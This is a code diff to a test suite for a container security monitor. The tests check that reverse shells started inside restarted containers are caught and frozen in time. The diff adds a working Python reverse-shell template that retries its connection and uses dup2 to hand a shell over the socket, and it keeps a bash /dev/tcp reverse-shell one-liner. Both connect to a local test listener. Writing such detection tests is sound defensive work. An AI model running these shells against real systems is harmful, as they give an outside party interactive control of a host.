@@ -432,6 +432,17 @@ def test_obfuscated_reverse_shells_caught_by_behaviour(mon: Monitor, kind: str) 
         listener.close()
 
 
+PY_DUP2_RETRY = """import socket, os, subprocess, time
+while True:
+    try:
+        s = socket.create_connection(("{host}", {port}), 1)
+        break
+    except OSError:
+        time.sleep(0.05)
+for fd in (0, 1, 2):
+    os.dup2(s.fileno(), fd)
+subprocess.call(["/bin/sh", "-i"])
+"""
 SLOT_ROUNDS = int(os.environ.get("COI_TEST_SLOT_ROUNDS", "1"))  # rounds of each kind
 SHELL_TO_FROZEN_SEC = 1.0  # a reverse shell's connection to its container frozen
 
@@ -455,9 +466,10 @@ def test_a_slot_started_again_is_watched_every_round(mon: Monitor) -> None:
     the new one went unwatched. Rounds on one name, each ending with the monitor killing the
     container for a reverse shell and the slot started again at once; in every second round
     of three the watched container is first killed with `coi kill` and started again at once,
-    in every third it is restarted (same instance, another init). The shell starts as soon as
-    the container has an address (the daemon may not have seen it yet): each round's must be
-    frozen within SHELL_TO_FROZEN_SEC of its connection. COI_TEST_SLOT_ROUNDS=4 for twelve."""
+    in every third it is restarted (same instance, another init). Every other round's shell
+    starts the moment the container runs (before the daemon can have seen it) and connects
+    once it has an address; the others start once it has one. Each round's shell must be
+    frozen within SHELL_TO_FROZEN_SEC of its connection. COI_TEST_SLOT_ROUNDS=4: twelve."""
     name = mon.container()
     listener = Listener()
     frozen: list[float] = []
@@ -486,14 +498,17 @@ def test_a_slot_started_again_is_watched_every_round(mon: Monitor) -> None:
                 else:  # the same instance, another init
                     subprocess.run(["incus", "restart", "--force", name], check=True, timeout=60)
                 incarnations += 1
-            wait_until(lambda: mon.incus.get_instance(name, with_state=True).ipv4, 60, "an address")
             connections = len(listener.accepted)
-            # half the rounds a shell only the behavioural rules see
-            kind = "python-file-dup2" if round_ % 2 else "dev-tcp"
-            if kind == "dev-tcp":
-                mon.trigger(name, f"bash -i >& /dev/tcp/{GATEWAY}/{listener.port} 0>&1")
+            if round_ % 2:
+                # a shell only the behavioural rules see, started the moment the container
+                # is (before the daemon watched it), connecting once it has an address
+                script = PY_DUP2_RETRY.format(host=GATEWAY, port=listener.port)
+                mon.trigger(name, run_file("/tmp/helper.py", script, "python3"))
             else:
-                mon.trigger(name, obfuscated(kind, listener.port))
+                wait_until(
+                    lambda: mon.incus.get_instance(name, with_state=True).ipv4, 60, "an address"
+                )
+                mon.trigger(name, f"bash -i >& /dev/tcp/{GATEWAY}/{listener.port} 0>&1")
             record = mon.events.wait(
                 lambda m: (
                     m.get("type") == "threat"
